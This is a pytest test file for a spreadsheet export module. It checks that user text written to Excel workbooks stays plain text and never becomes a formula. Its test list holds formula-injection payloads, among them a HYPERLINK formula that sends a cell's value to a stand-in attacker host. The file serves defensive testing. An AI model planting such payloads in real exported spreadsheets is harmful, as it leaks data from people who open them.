"""The shared Excel writer stores user text as text: nothing a user typed becomes a live formula."""

import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from chuangxian.core.xlsx import Sheet, text_cell, workbook_bytes

# What Excel, WPS and LibreOffice would run or reinterpret (the OWASP CSV-injection prefixes), plus
# an error code, which openpyxl would otherwise store as an error cell.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "#DIV/0!",
]


def sheet_xml(content: bytes, number: int = 1) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(f"xl/worksheets/sheet{number}.xml").decode()


def assert_text_only(content: bytes, sheets: int = 1) -> None:
    """No formula anywhere, and every cell that holds a string is an inline or shared string."""
    for number in range(1, sheets + 1):
        xml = sheet_xml(content, number)
        assert "<f>" not in xml and "<f " not in xml
        assert not re.search(r'<c [^>]*t="(?:e|str)"', xml)


@pytest.mark.parametrize("styled", [False, True])
def test_every_text_cell_keeps_its_text_and_is_never_a_formula(styled):
    sheet = Sheet(
        title="=名单",
        caption="=1+2 · 活动",
        headers=["=表头", "承诺内容"],
        rows=[[text, text] for text in HOSTILE],
        text_columns=frozenset({0}) if styled else frozenset(),
        wrap=styled,
    )
    content = workbook_bytes([sheet])
    assert_text_only(content)
    book = load_workbook(io.BytesIO(content))
    rows = list(book.active.iter_rows())
    assert (rows[0][0].value, rows[0][0].data_type) == ("=1+2 · 活动", "s")
    assert (rows[1][0].value, rows[1][0].data_type) == ("=表头", "s")
    for text, row in zip(HOSTILE, rows[2:], strict=True):
        for cell in row:
            assert (cell.value, cell.data_type) == (text, "s")


def test_numbers_and_dates_stay_numbers_and_dates():
    from datetime import date

    content = workbook_bytes(
        [Sheet(title="t", headers=["n", "d"], rows=[[3, date(2011, 7, 1)]], date_columns=frozenset({1}))]
    )
    row = next(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    assert (row[0].value, row[0].data_type) == (3, "n")
    assert row[1].is_date


def test_text_cell_neutralises_a_cell_of_an_ordinary_workbook():
    """For files written cell by cell (the roster template), not through ``workbook_bytes``."""
    workbook = Workbook()
    sheet = workbook.active
    for row, text in enumerate(HOSTILE, start=1):
        text_cell(sheet.cell(row=row, column=1, value=text))
    sheet.cell(row=1, column=2, value=7)
    text_cell(sheet.cell(row=1, column=2))
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert_text_only(buffer.getvalue())
    loaded = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [(c.value, c.data_type) for (c,) in loaded.iter_rows(max_col=1)] == [(t, "s") for t in HOSTILE]
    assert loaded["B1"].value == 7
